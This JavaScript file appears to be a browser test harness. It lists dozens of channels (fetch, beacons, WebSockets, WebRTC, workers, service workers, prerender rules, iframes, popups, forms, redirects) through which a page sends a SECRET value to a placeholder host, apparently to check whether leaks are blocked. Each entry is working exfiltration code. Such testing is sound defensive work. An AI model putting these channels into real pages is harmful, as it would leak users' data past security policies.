// The first ways in which a page can talk; each tells `SECRET` to `THERE`. `HERE` is the page's own
// site. What stands above the tables is for sites in numbers; `prelude.js` has the same for named ones.
const there = (name) => `${THERE}/hit/${name}?e=${SECRET}`;
const onward = (code, name) => `/redirect?${code}:${encodeURIComponent(there(name))}`;
const bare = () => THERE;
const tag = () => SECRET;
const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
const blob = (text) => URL.createObjectURL(new Blob([text]));
const rules = (told) => add("script", { type: "speculationrules", textContent: JSON.stringify(told) });
const sent = { method: "POST", body: SECRET, mode: "no-cors" };
const fetched = (name) => `fetch(${JSON.stringify(there(name))}, ${JSON.stringify(sent)})`;
const socket = (name) => there(name).replace("http", "ws");
const quic = (name) => there(name).replace("http:", "https:");
const stun = () => `stun:127.0.0.1:${UDP}`;
const turn = () => `turn:${new URL(THERE).host}?transport=tcp`;
const SCRIPTS = { run: fetched, install: (name) => `self.oninstall = () => ${fetched(name)}` };
const file = (kind, name) => `/static?${encodeURIComponent(SCRIPTS[kind](name))}`;
const reporting = (name) => `/report?${encodeURIComponent(there(name))}`;
const form = (given) => {
  const made = add("form", { method: "post", ...given });
  made.innerHTML = `<input name=e value=${SECRET}><button>go</button>`;
  return made;
};
const call = (servers) => {
  const line = new RTCPeerConnection({ iceServers: [servers] });
  line.createDataChannel("x");
  line.createOffer().then((offer) => line.setLocalDescription(offer));
};

const STAYING = {
  img: () => (new Image().src = there("img")),
  script: () => add("script", { src: there("script") }),
  style: () => add("link", { rel: "stylesheet", href: there("style") }),
  style_import: () => add("style", { textContent: `@import url(${there("style_import")})` }),
  background: () => (document.body.style.background = `url(${there("background")})`),
  font: () => new FontFace("z", `url(${there("font")})`).load(),
  prefetch: () => add("link", { rel: "prefetch", href: there("prefetch") }),
  preload: () => add("link", { rel: "preload", as: "image", href: there("preload") }),
  modulepreload: () => add("link", { rel: "modulepreload", href: there("modulepreload") }),
  icon: () => document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: there("icon") })),
  preconnect: () => add("link", { rel: "preconnect", href: bare("preconnect") }),
  dns: () => add("link", { rel: "dns-prefetch", href: bare("dns") }),
  object: () => add("object", { data: there("object") }),
  embed: () => add("embed", { src: there("embed") }),
  video: () => add("video", { src: there("video"), preload: "auto" }).load(),
  redirected_img: () => (new Image().src = onward(302, "redirected_img")),
  speculation: () => rules({ prefetch: [{ source: "list", urls: [there("speculation")], eagerness: "immediate" }] }),
  prerender: () => rules({ prerender: [{ source: "list", urls: [there("prerender")], eagerness: "immediate" }] }),
  eventsource: () => new EventSource(there("eventsource")),
  fetch: () => fetch(there("fetch"), sent),
  xhr: () => {
    const asked = new XMLHttpRequest();
    asked.open("POST", there("xhr"));
    asked.send(SECRET);
  },
  keepalive: () => fetch(there("keepalive"), { ...sent, keepalive: true }),
  beacon: () => navigator.sendBeacon(there("beacon"), SECRET),
  ping: () => add("a", { href: "#", ping: there("ping") }).click(),
  fetchlater: () => fetchLater(there("fetchlater"), { method: "POST", body: SECRET, activateAfter: 0 }),
  redirected_fetch: () => fetch(onward(307, "redirected_fetch"), { ...sent, mode: "cors" }),
  worker: () => new Worker(blob(fetched("worker"))),
  csp_report: () => add("iframe", { src: reporting("csp_report") }),
  popup_fetch: () => {
    const other = open("/blank");
    setTimeout(() => other.fetch(there("popup_fetch"), sent), 100);
  },
  websocket: () => new WebSocket(socket("websocket")),
  worker_websocket: () => new Worker(blob(`new WebSocket("${socket("worker_websocket")}")`)),
  websocketstream: () => new WebSocketStream(socket("websocketstream")),
  webtransport: () => new WebTransport(quic("webtransport")),
  webrtc: () => call({ urls: stun("webrtc") }),
  webrtc_relay: () => call({ urls: turn(), username: tag("webrtc_relay"), credential: "x" }),
  sharedworker: () => new SharedWorker(file("run", "sharedworker")),
  serviceworker: () => navigator.serviceWorker.register(file("install", "serviceworker")),
  iframe: () => add("iframe", { src: there("iframe") }),
  srcdoc: () => add("iframe", { srcdoc: `<img src="${there("srcdoc")}">` }),
  refresh_in_frame: () => add("iframe", { srcdoc: `<meta http-equiv=refresh content="0;url=${there("refresh_in_frame")}">` }),
  redirected_frame: () => add("iframe", { src: onward(302, "redirected_frame") }),
  form_in_frame: () => {
    add("iframe", { name: "q" });
    form({ action: there("form_in_frame"), target: "q" }).submit();
  },
  popup: () => open(there("popup")),
  popup_noopener: () => open(there("popup_noopener"), "_blank", "noopener"),
  popup_redirected: () => open(onward(302, "popup_redirected")),
  popup_form: () => form({ action: there("popup_form"), target: "_blank" }).submit(),
};

const LEAVING = {
  pagehide: () => {
    addEventListener("pagehide", () => {
      navigator.sendBeacon(there("pagehide"), SECRET);
      fetch(there("pagehide_keepalive"), { ...sent, keepalive: true });
    });
    setTimeout(() => (location = "/blank"), 30);
  },
  location: () => (location = there("location")),
  form_post: () => form({ action: there("form_post") }).submit(),
  form_get: () => form({ action: there("form_get"), method: "get" }).submit(),
  form_click: () => form({ action: there("form_click") }).querySelector("button").click(),
  form_redirected: () => form({ action: onward(307, "form_redirected") }).submit(),
  redirected: () => (location = onward(302, "redirected")),
  refresh: () => add("meta", { httpEquiv: "refresh", content: `0;url=${there("refresh")}` }),
};
